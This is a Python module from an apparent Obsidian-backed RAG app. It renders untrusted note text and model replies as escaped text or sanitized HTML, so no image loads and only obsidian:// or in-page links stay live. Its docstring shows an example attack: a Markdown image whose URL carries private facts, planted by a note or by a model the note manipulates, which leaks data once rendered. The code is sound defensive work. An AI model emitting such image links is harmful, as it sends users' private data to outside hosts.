"""The one way the app shows a string it did not write — a note's text, heading, title or file name, a chat export,
a memory fact, a model's reply: as plain text, or as Markdown with nothing in it that reaches out.

A note (or a model a note talked into it) can hold `![x](https://host/p.png?d=<private facts>)`: rendered, the
browser fetches it and the facts leave. So:
- `text()` is for a string shown as it is, inside Streamlit Markdown (labels, captions, list lines): every ASCII
  punctuation character is backslash-escaped (CommonMark allows that escape for each of them, so nothing of the
  string is read as Markdown or as a Streamlit directive), control characters are dropped, newlines become spaces.
- `markdown_html()` is for Markdown meant to be read as Markdown (an answer, a quote): parsed by markdown-it-py with
  raw HTML off; an image is shown as its text and address, never loaded; a link is live only to `obsidian://` or
  to a citation inside the page, any other is its text followed by the address as text; the HTML is then cleaned by
  Ammonia (`nh3`) with a short list of tags and no URL scheme but `obsidian`, so a slip in the rules above still
  cannot load or run anything. Show the result with `st.html`, never `st.markdown`.
"""

from __future__ import annotations

import re
from html import escape

import nh3
from markdown_it import MarkdownIt

from rag.printable import printable

_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation character
_LIVE_SCHEMES = ("obsidian://",)
_IN_PAGE = "#"

# What the cleaned HTML may hold: text structure, no media, no forms, no styles of its own.
_TAGS = {
    "p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "s", "del", "ul", "ol", "li", "a", "span", "mark",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "div",
}  # fmt: skip
_ATTRIBUTES = {"a": {"href", "class", "title"}, "span": {"class"}, "mark": {"class"}, "div": {"class"}, "ol": {"start"}, "code": {"class"}}


def text(value: object) -> str:
    """`value` as literal text inside Streamlit Markdown: nothing in it is markup, a link, an image or a directive."""
    return _PUNCTUATION.sub(r"\\\1", _one_line(str(value)))


def _one_line(value: str) -> str:
    return re.sub(r"\s*[\r\n]+\s*", " ", printable(value))


def is_live_link(href: str) -> bool:
    """A link the app lets the user follow: a note in Obsidian, or a place in this page (a citation)."""
    return href.startswith(_LIVE_SCHEMES) or (href.startswith(_IN_PAGE) and not href.startswith("#/"))


def _parser() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # every address is kept to be shown as text; which are live is decided below
    md.add_render_rule("image", _image)
    md.add_render_rule("link_open", _link_open)
    md.add_render_rule("link_close", _link_close)
    return md


def _image(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = str(token.attrGet("src") or "")
    return f'<span class="rag-image">{escape(f"![{alt}]({src})")}</span>'


def _link_open(self, tokens, idx, options, env) -> str:
    token = tokens[idx]
    href = str(token.attrGet("href") or "")
    if is_live_link(href):
        closing = "</a>"
    elif token.markup == "autolink":  # <https://…>: its text is the address already
        closing = ""
    else:
        closing = f' <span class="rag-url">({escape(href)})</span>'
    env.setdefault("closing", []).append(closing)
    return f'<a href="{escape(href)}">' if closing == "</a>" else ""


def _link_close(self, tokens, idx, options, env) -> str:
    return env["closing"].pop()


_MD = _parser()


def markdown_html(source: str, *, replace: dict[str, str] | None = None) -> str:
    """Markdown from a note or a model as cleaned HTML for `st.html`. `replace`: markers the caller put into the
    source (private-use characters, e.g. around a claim to highlight) and the HTML each becomes after rendering."""
    html = _MD.render(printable(source), {})
    for marker, tag in (replace or {}).items():
        html = html.replace(marker, tag)
    return nh3.clean(html, tags=_TAGS, attributes=_ATTRIBUTES, url_schemes={"obsidian"}, link_rel=None, strip_comments=True)
